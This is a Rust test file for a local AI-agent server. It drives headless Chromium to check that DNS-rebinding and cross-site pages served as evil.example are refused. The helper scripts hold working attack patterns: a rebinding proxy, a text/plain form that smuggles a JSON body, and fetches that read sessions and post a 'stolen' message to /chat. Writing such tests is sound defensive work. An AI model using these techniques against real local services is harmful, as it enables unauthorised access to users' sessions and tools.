//! Pages in a real browser: pages that must be refused, one that is allowed, and our own.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rethread_agent::scripted::Answer;
use rethread_http::Rules;

use crate::site::{Setup, Site};

/// How long a browser may take for a page. It starts slowly on a busy machine.
const PAGE_MAX: Duration = Duration::from_secs(60);

/// A browser with an empty profile that resolves every name to this machine.
struct Browser {
    process: Child,
    _profile: tempfile::TempDir,
}

impl Browser {
    fn open(url: &str, flags: &[&str]) -> Browser {
        let profile = tempfile::tempdir().expect("a folder");
        let process = Command::new("chromium")
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-default-apps",
                "--disable-extensions",
                "--disable-sync",
                "--disable-dev-shm-usage",
                "--password-store=basic",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .args(flags)
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("`chromium` is installed (the Debian package is called chromium)");
        Browser { process, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        self.process.kill().ok();
        self.process.wait().ok();
    }
}

const ANY_NAME: &str = "--host-resolver-rules=MAP *.example 127.0.0.1";

/// The head of a request, and as much of what follows as came with it.
fn head(stream: &mut TcpStream) -> Option<String> {
    stream.set_read_timeout(Some(PAGE_MAX)).ok()?;
    let mut bytes = Vec::new();
    let mut part = [0; 16 << 10];
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().ok())?
            });
            if body.len() >= length.unwrap_or(0) {
                return Some(text);
            }
        }
        match stream.read(&mut part).ok()? {
            0 => return None,
            read => bytes.extend(&part[..read]),
        }
    }
}

fn html(stream: &mut TcpStream, page: &str) {
    let answer = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\n\
         connection: close\r\n\r\n{page}",
        page.len()
    );
    stream.write_all(answer.as_bytes()).ok();
}

/// Answers each connection in a thread of its own, for as long as the test runs.
fn listening(
    answer: impl Fn(TcpStream) + Send + Sync + 'static,
) -> (SocketAddr, std::thread::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    let answer = Arc::new(answer);
    let thread = std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let answer = answer.clone();
            std::thread::spawn(move || answer(stream));
        }
    });
    (address, thread)
}

/// A foreign server: it serves one page, and receives what the page reports.
struct Elsewhere {
    address: SocketAddr,
    page: Arc<Mutex<String>>,
    reports: Receiver<String>,
}

impl Elsewhere {
    fn new() -> Elsewhere {
        let (sender, reports): (Sender<String>, _) = channel();
        let page = Arc::new(Mutex::new(String::new()));
        let (shown, sender) = (page.clone(), Mutex::new(sender));
        let (address, _) = listening(move |mut stream| {
            let Some(request) = head(&mut stream) else { return };
            if request.starts_with("GET /page") {
                html(&mut stream, &shown.lock().expect("not poisoned"));
            } else if let Some((_, report)) = request.split_once("\r\n\r\n")
                && request.starts_with("POST /report")
            {
                sender.lock().expect("not poisoned").send(report.to_owned()).ok();
                html(&mut stream, "thanks");
            }
        });
        Elsewhere { address, page, reports }
    }

    /// A script that does something and reports what came of it, as `report(text)`.
    fn show(&self, script: &str) {
        *self.page.lock().expect("not poisoned") = self.page_with(script);
    }

    fn page_with(&self, script: &str) -> String {
        let report = format!("http://{}/report", self.address);
        format!(
            "<!doctype html><body><script>\
             const report = text => fetch('{report}', {{method: 'POST', mode: 'no-cors', body: text}});\
             const tried = async (what, work) => {{\
               try {{ return what + ': ' + await work(); }} catch (error) {{ return what + ': failed'; }}\
             }};\
             (async () => {{ {script} }})().catch(error => report('broken: ' + error));\
             </script></body>"
        )
    }

    fn reported(&self) -> String {
        self.reports.recv_timeout(PAGE_MAX).expect("the page reports")
    }
}

fn nothing_is_stored(site: &Site) {
    let page = site.sessions("local").list(&Default::default(), None, 9).expect("listed");
    assert_eq!(page.sessions, [], "a page got in");
    assert_eq!(site.model.requests().len(), 0, "a page made the model answer");
}

/// How many requests the server refused.
fn refused(site: &Site) -> u64 {
    let metrics = site.get("/metrics").body;
    let line =
        metrics.lines().find(|line| line.contains("requests_total{") && line.contains("4xx"));
    let line = line.unwrap_or_else(|| panic!("no refusals in\n{metrics}"));
    line.rsplit(' ').next().and_then(|number| number.parse().ok()).expect("a number")
}

/// What evil.example serves on its own port until its name points at this machine: everything but
/// the page reaches the server then, under that name, from a page of the same origin.
fn rebound(site: &Site, elsewhere: &Elsewhere) -> String {
    let script = "const ask = {message: 'stolen', session_id: null, active_file: null};\
        const post = {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify(ask)};\
        const results = [];\
        results.push(await tried('read', async () => (await fetch('/v1/sessions')).status));\
        results.push(await tried('ask', async () => (await fetch('/chat', post)).status));\
        results.push(await tried('follow', async () => (await fetch('/chat/stream', post)).status));\
        report(results.join(', '));";
    let (page, server) = (elsewhere.page_with(script), site.address());
    let (front, _) = listening(move |mut stream| {
        let Some(request) = head(&mut stream) else { return };
        if request.starts_with("GET /page") {
            return html(&mut stream, &page);
        }
        let mut inside = TcpStream::connect(server).expect("it listens");
        inside.write_all(request.as_bytes()).ok();
        let (mut from, mut to) =
            (stream.try_clone().expect("a copy"), inside.try_clone().expect("a copy"));
        std::thread::spawn(move || std::io::copy(&mut from, &mut to));
        std::io::copy(&mut inside, &mut stream).ok();
    });
    let url = format!("http://evil.example:{}/page", front.port());
    let _browser = Browser::open(&url, &[ANY_NAME]);
    elsewhere.reported()
}

#[test]
fn a_page_whose_name_comes_to_point_here_gets_nothing() {
    let elsewhere = Elsewhere::new();
    let site = Site::new([]);
    assert_eq!(rebound(&site, &elsewhere), "read: 403, ask: 403, follow: 403");
    nothing_is_stored(&site);
    // It is refused because of its name: with an allowed name, the same page has access.
    let rules = Rules { allow_hosts: vec!["evil.example".into()], ..Rules::default() };
    let open = Site::of(Setup { rules, ..Setup::default() }, []);
    assert_eq!(rebound(&open, &elsewhere), "read: 200, ask: 200, follow: 200");
}

/// A page on another site that tries a form, a request without a preflight, and one with a
/// preflight.
fn cross_site(site: &Site, elsewhere: &Elsewhere, name: &str) -> String {
    let chat = format!("http://{}/chat", site.address());
    elsewhere.show(&format!(
        "const body = '{{\"message\":\"stolen\",\"session_id\":null,\"active_file\":null}}';\
         const frame = document.createElement('iframe'); frame.name = 'frame';\
         document.body.append(frame);\
         const form = document.createElement('form');\
         form.method = 'POST'; form.enctype = 'text/plain'; form.target = 'frame';\
         form.action = '{chat}';\
         const field = document.createElement('input');\
         field.name = '{{\"message\":\"stolen\",\"session_id\":\"'; field.value = '\"}}';\
         form.append(field); document.body.append(form);\
         const sent = new Promise(done => frame.addEventListener('load', done));\
         form.submit(); await sent;\
         const plain = await tried('plain', async () => {{\
           await fetch('{chat}', {{method: 'POST', mode: 'no-cors', body}}); return 'sent'; }});\
         const json = await tried('json', async () => {{\
           const answer = await fetch('{chat}', {{method: 'POST', headers: {{'content-type': 'application/json'}}, body}});\
           return answer.status + ' ' + (await answer.json()).response; }});\
         report(plain + ', ' + json);"
    ));
    let url = format!("http://{name}:{}/page", elsewhere.address.port());
    let _browser = Browser::open(&url, &[ANY_NAME]);
    elsewhere.reported()
}

#[test]
fn a_form_and_a_script_of_another_site_store_nothing_and_a_page_that_is_let_in_is_answered() {
    let elsewhere = Elsewhere::new();
    let origin = format!("http://notes.example:{}", elsewhere.address.port());
    let rules = Rules { allow_origins: vec![origin], ..Rules::default() };
    let site = Site::of(Setup { rules, ..Setup::default() }, [Answer::text("hello, page")]);
    let before = refused(&site);
    // Requests without a preflight are sent, and refused by the server; the rest is not even sent.
    assert_eq!(cross_site(&site, &elsewhere, "evil.example"), "plain: sent, json: failed");
    assert_eq!(refused(&site) - before, 3, "the form, the plain request and the preflight came");
    nothing_is_stored(&site);
    // The allowed page may send requests, and only as JSON: the form and the plain request are
    // refused there too.
    let told = cross_site(&site, &elsewhere, "notes.example");
    assert_eq!(told, "plain: sent, json: 200 hello, page");
    assert_eq!(refused(&site) - before, 5);
    assert_eq!(site.model.requests().len(), 1);
}

#[test]
fn the_page_of_the_document_loads_what_it_needs_from_here_and_nothing_from_elsewhere() {
    let rules = Rules { require_token: true, ..Rules::default() };
    let site = Site::of(Setup { rules, ..Setup::default() }, []);
    let server = site.address();
    let seen: Arc<Mutex<BTreeSet<String>>> = Arc::default();
    let notes = seen.clone();
    // All requests of the browser go through this proxy, including those to this machine.
    let (proxy, _) = listening(move |mut stream| {
        let Some(request) = head(&mut stream) else { return };
        let target = request.split(' ').nth(1).unwrap_or_default().to_owned();
        notes.lock().expect("not poisoned").insert(target.clone());
        let Some(path) = target.strip_prefix(&format!("http://{server}")) else { return };
        let line = request.replacen(&target, path, 1);
        let line = line.replace("Proxy-Connection: keep-alive", "Connection: close");
        let mut inside = TcpStream::connect(server).expect("it listens");
        inside.write_all(line.as_bytes()).ok();
        std::io::copy(&mut inside, &mut stream).ok();
    });
    let through = format!("--proxy-server=http://{proxy}");
    let url = format!("http://{server}/docs");
    let _browser = Browser::open(&url, &[&through, "--proxy-bypass-list=<-loopback>"]);
    let wanted = ["/docs", "/docs/page.js", "/docs/page.css", "/openapi.json"];
    let wanted: BTreeSet<String> =
        wanted.iter().map(|path| format!("http://{server}{path}")).collect();
    let deadline = Instant::now() + PAGE_MAX;
    loop {
        let seen = seen.lock().expect("not poisoned").clone();
        if wanted.is_subset(&seen) {
            break;
        }
        assert!(Instant::now() < deadline, "only {seen:?}");
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(_browser);
    let elsewhere: Vec<String> = seen.lock().expect("not poisoned").iter().cloned().collect();
    let foreign = |url: &&String| {
        let own = url.starts_with(&format!("http://{server}/"));
        // The browser contacts its vendor; that does not come from the page.
        !own && !url.contains("google")
    };
    let elsewhere: Vec<&String> = elsewhere.iter().filter(foreign).collect();
    assert!(elsewhere.is_empty(), "{elsewhere:?}");
}
